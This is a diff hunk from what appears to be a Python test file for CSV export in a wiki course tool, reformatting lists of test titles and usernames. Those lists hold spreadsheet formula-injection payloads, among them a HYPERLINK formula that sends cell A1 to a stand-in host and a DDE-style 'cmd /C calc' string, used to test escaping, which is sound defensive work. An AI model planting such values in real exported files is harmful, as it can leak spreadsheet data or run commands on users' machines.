@@ -25,7 +25,8 @@ from wikicourse.wikis import add_wiki
 WIKI = "csv.demo.invalid"
 SEPARATORS = ",;\t|"
 FORMULA = "=+-@"
-TITLES = ['x;=HYPERLINK("http://evil.invalid/?"&A1,"click")', "a,=1+1", "=cmd", "e\t=cmd", "b|@SUM(1+1)*cmd|' /C calc'!A0",
+TITLES = ['x;=HYPERLINK("http://evil.invalid/?"&A1,"click")', "a,=1+1", "=cmd", "e\t=cmd",
+          "b|@SUM(1+1)*cmd|' /C calc'!A0",
           "c; +1", 'd;"-2"', "'=already quoted", "Plain - title", "-5"]
 # Usernames with formula characters after a separator; the editors column joins them with "; ".
 USERS = ["Ann;=1+1", "=HYPERLINK(1)", "Bob, -3", "Plain"]
